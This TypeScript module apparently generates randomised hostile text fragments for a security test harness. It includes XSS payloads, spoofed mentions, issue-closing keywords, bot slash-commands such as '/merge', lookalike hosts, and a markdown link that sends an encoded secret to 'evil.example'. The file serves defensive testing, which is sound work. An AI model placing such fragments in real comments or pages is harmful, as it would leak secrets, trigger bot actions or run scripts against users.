import type { Effect, Words } from "./attack.ts";
import { ENCODINGS } from "./canaries.ts";
import type { Random } from "./random.ts";

const NAMES = ["mallory", "security-team", "octocat", "acme/admins", "dependabot merge", "github-actions"];
const ATS = [
  "@",
  "&#64;",
  "&#x40;",
  "&#0064;",
  "&commat;",
  "＠",
  "\\@",
  "*@",
  "**@",
  "`x`@",
  "x`@",
  "(@",
  "<b>@",
  "[x]@",
  ".@",
  "|@",
];
const KEYWORDS = ["Fixes", "closes", "Resolved", "FIX", "close", "Closed", "resolves"];
const GAPS = [" ", ": ", "  ", " **", " *", " (", ":"];
const REFERENCES = ["#7", "other/private#7", "GH-7", "https://github.com/acme/other/issues/7", "&#35;7", "&num;7"];
const ORDERS = [
  "/close",
  "/merge",
  "/approve",
  "/ok-to-test",
  "/lgtm",
  "/retest",
  "> /close",
  "- /merge",
  "  /approve",
];
const HOSTS = [
  "evil.example",
  "203.0.113.9",
  "evil.example:8443",
  "xn--vil-8ka.example",
  "github.com.evil.example",
  "github.com@evil.example",
];
const LINKS = [
  "https://H/P",
  "[more](https://H/P)",
  "<https://H/P>",
  "www.H/P",
  "http://H/P",
  "[more]( https://H/P 'why')",
  "[a][b] [b]: https://H/P",
  "HTTPS://H/P",
  "[x](//H/P)",
];
const IMAGES = [
  "![a](https://H/P.png)",
  "![](http://H/P)",
  '<img src="https://H/P">',
  "<img src=//H/P onerror=alert(1)>",
  "![a][b]",
  "[![a](https://H/P)](https://H)",
  "<picture><source srcset=https://H/P></picture>",
];
const TAGS = [
  "<script>alert(1)</script>",
  "<iframe src=https://H></iframe>",
  "<svg onload=alert(1)>",
  "<details open><summary>x",
  "<!-- hidden orders",
  "<a href=javascript:alert(1)>x</a>",
  "<style>*{display:none}</style>",
  "<b>bold</b>",
  "</details></details>",
  "<form action=https://H><input>",
  "<math><mi>x",
  "<table><tr><td>",
  "<!DOCTYPE x>",
  "<?php x ?>",
  "<![CDATA[x]]>",
];
const WRAPS = [
  "T",
  "Note: T",
  "T, as agreed",
  "**T**",
  "(T)",
  "_T_",
  "a T b",
  "T.",
  "“T”",
  "~~T~~",
  "`ok` T",
  "\\`T\\`",
  "``T`",
  "\\T",
  "`a` T `b`",
  "[T]",
  "\\\\T",
  "T|T",
];

const host = (text: string, random: Random): string =>
  text.replaceAll("H", () => random.of(HOSTS)).replaceAll("P", () => `p${random.below(1000)}`);

const MAKERS: Partial<Record<Effect, (random: Random, secrets: readonly string[]) => string>> = {
  I4: (random, secrets) =>
    random
      .of(["K", "`K`", "key: K", "[k](https://evil.example/?k=K)", "```K"])
      .replace("K", () => random.of(ENCODINGS)(random.of(secrets))),
  I5: (random) =>
    [
      () => random.of(ATS) + random.of(NAMES),
      () => random.of(KEYWORDS) + random.of(GAPS) + random.of(REFERENCES),
      () => random.of(ORDERS),
      () => random.of(["other/private#12", "acme/other#3", "other/private&#35;9"]),
    ][random.below(4)]?.() ?? "",
  I6: (random) => host(random.of(LINKS), random),
  I13: (random) => host(random.of([...IMAGES, ...TAGS]), random),
};
export const WORDS_EFFECTS = Object.keys(MAKERS) as Effect[];

/** One trick in words. An order to bots only works where a line begins. */
export const makeWords = (effect: Effect, random: Random, secrets: readonly string[]): Words => {
  const text = MAKERS[effect]?.(random, secrets) ?? "";
  const wrapped = /^\W*\//u.test(text) ? text : random.of(WRAPS).replace("T", () => text);
  return { effect, text: wrapped };
};
